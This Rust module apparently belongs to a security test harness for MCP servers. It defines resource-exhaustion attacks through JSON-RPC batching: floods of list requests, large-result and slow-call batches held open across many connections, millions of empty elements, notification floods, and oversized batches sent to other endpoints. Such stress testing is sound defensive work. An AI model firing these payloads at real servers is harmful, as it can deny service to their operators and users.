//! Batches, which 2025-03-26 has: many messages in one body.

use crate::attacker::{MCP, Message, call, request};
use crate::{attacks, size};

const REVISION: &str = "2025-03-26";

/// A message so many times in one body.
fn batch(message: &str, count: usize) -> Message {
    let messages = vec![message; count].join(",");
    Message::of(REVISION, format!("[{messages}]"))
}

attacks! {
    /// An answer of a gigabyte.
    fn of_lists(attacker) {
        let list = request("tools/list", "");
        attacker.works(&batch(&list, 2));
        attacker.post(&batch(&list, size(30_000, 200_001)));
    }

    /// Results are as long as the functions like, and there are many.
    fn of_long_results(attacker) {
        let fill = call("fill", r#""bytes":200000"#);
        attacker.works(&batch(&fill, 2));
        attacker.post(&batch(&fill, size(3_000, 6_000)));
        let read = request("resources/read", r#""uri":"fill://200000""#);
        attacker.post(&batch(&read, size(1_500, 6_000)));
    }

    /// Each has the time limit of a call.
    fn of_slow_calls(attacker) {
        let hold = call("hold", r#""millis":50"#);
        attacker.works(&batch(&hold, 2));
        let connections: Vec<_> =
            (0..size(20, 200)).filter_map(|_| attacker.leave(&batch(&hold, size(2_000, 20_000))).ok()).collect();
        std::thread::sleep(std::time::Duration::from_millis(500));
        drop(connections);
    }

    /// Each element that is no message has an answer fifty times as long.
    fn of_nothing(attacker) {
        attacker.post(&batch("1", size(1_000_000, 5_000_000)));
        attacker.post(&batch("{}", size(500_000, 5_000_000)));
    }

    /// Where nothing is answered, the work is nevertheless done.
    fn of_notifications(attacker) {
        let session = attacker.initialize(REVISION, "{}");
        let cancelled = r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}"#;
        attacker.post(&batch(cancelled, size(20_000, 150_000)).within(&session));
        let answer = r#"{"jsonrpc":"2.0","id":1,"result":{}}"#;
        attacker.post(&batch(answer, size(40_000, 300_000)).within(&session));
    }

    /// At the endpoints that know none.
    fn elsewhere(attacker) {
        let list = request("tools/list", "");
        for path in attacker.endpoints() {
            for revision in ["2024-11-05", "2025-06-18", "2026-07-28"] {
                let body = batch(&list, size(10_000, 100_000)).body;
                attacker.post(&Message::to(path, body).with("MCP-Protocol-Version", revision));
            }
        }
        attacker.post(&Message::to(MCP, format!("[{}]", vec!["[]"; size(100_000, 5_000_000)].join(","))));
    }
}
